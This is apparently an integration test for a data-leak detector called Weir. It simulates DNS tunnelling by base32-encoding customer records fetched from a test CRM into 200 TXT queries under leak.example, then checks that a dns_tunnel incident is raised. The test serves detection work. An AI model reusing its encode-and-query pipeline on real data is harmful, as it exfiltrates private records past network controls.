#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# DNS. Customer rows are written into names, two hundred of them, and a name server is asked for each:
# whoever answers for the domain has them all. What everybody looks up all day is left alone.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

# A real name server that answers for leak.example and hosts of the office.
named=$work/named.conf
{
	echo "local=/leak.example/"
	echo "address=/leak.example/10.77.0.99"
	for name in "${!host_addresses[@]}"; do
		echo "host-record=$name,${host_addresses[$name]}"
	done
	for n in $(seq 1 80); do echo "host-record=w$n.office.example,10.77.1.$n"; done
} >"$named"
crm_serves crm.test
serve meet.test 53 dnsmasq --keep-in-foreground --conf-file="$named" --no-resolv --no-hosts \
	--log-queries --log-facility="$work/named.log" --user=root --pid-file="$work/named.pid"
weir_watches

# The innocent ask for many names, long ones too, and for the very domain.
alice_does <<'END'
for n in $(seq 1 60); do
	echo "w$n.office.example A"
	echo "a-long-name-that-means-nothing-at-all-$n.leak.example TXT"
done >lookups.txt
dig @10.77.0.50 +tries=1 +short -f lookups.txt >/dev/null
END

# She who holds customer data looks hosts up, as browsers do.
alice_does <<'END'
for number in $(seq 10 49); do
	curl -sS "https://crm.test/policy/P202070000$number" >>customers.json
done
(cat customers.json; seq 1 80) | sed -n 's/^[0-9]*$/w&.office.example A/p' >office.txt
dig @10.77.0.50 +tries=1 +short -f office.txt >/dev/null
END
asked=$(grep -c 'query\[A\] w[0-9]*.office.example' "$work/named.log")
then_it "she has asked for hosts of the office ($asked times)" test "$asked" -ge 140

# Two hundred TXT queries with the rows in base32.
alice_does <<'END'
base32 -w 50 customers.json | tr -d = | tr A-Z a-z | head -n 200 | nl -nrz -w4 -s ' ' |
	while read -r n text; do echo "$text.$n.leak.example TXT"; done >names.txt
dig @10.77.0.50 +tries=1 +short -f names.txt >/dev/null
END
tunnelled=$(grep 'query\[TXT\]' "$work/named.log" | grep -vc 'means-nothing')
then_it "200 TXT queries with labels of hers have arrived" test "$tunnelled" -eq 200

soon "one incident" incidents_say "len(d) == 1"
soon "it says dns_tunnel" incidents_say "'dns_tunnel' in d[0]['detectors']"
soon "it went to whoever answers for leak.example, by DNS" \
	incidents_say "[(s['address'], s['channel']) for s in d[0]['sinks']] == [('leak.example', 'dns')]"
soon "it says how many questions and names" \
	incidents_say "any(a['detector'] == 'dns_tunnel' and 'asked 200 times for 200 different names below leak.example' in a['reason'] for a in d[0]['addends'])"
soon "that all were for TXT records" \
	incidents_say "any('200 of the questions were for TXT' in a['reason'] for a in d[0]['addends'])"
soon "it has the techniques" incidents_say "{'T1071.004', 'T1048.003'} <= set(d[0]['attack'])"
soon "it came from the CRM" incidents_say "{s['name'] for s in d[0]['sources']} == {'crm.test'}"
soon "dig is who asked" \
	incidents_say "any(s['app']['exe'].endswith('/dig') and s['object']['kind'] == 'domain' for s in d[0]['lineage'])"
then_it "no event is about the innocent's lookups" \
	events_say "not [e for e in d if 'means-nothing' in str(e)] and len({e['app']['id'] for e in d if e.get('app') and str(e['app']['exe']).endswith('/dig')}) == 2"
then_every_stage_accounts_for_all_it_took

"$weir" show 1 --data "$data" >"$work/show.txt" 2>&1
"$weir" show 1 --lang zh --data "$data" >"$work/show-zh.txt" 2>&1
weir_stops
cut -d . -f 1 "$home/names.txt" | sort -u >"$work/labels.txt"
nothing_of_the_names() {
	[ "$(wc -l <"$work/labels.txt")" -ge 20 ] && not env LC_ALL=C grep -raiFf "$work/labels.txt" \
		"$data" "$weir_log" "$weir_live" "$work/incidents.json" "$work/events.jsonl" \
		"$work/show.txt" "$work/show-zh.txt"
}
then_it "no name that was asked for stands in anything that Weir wrote" nothing_of_the_names
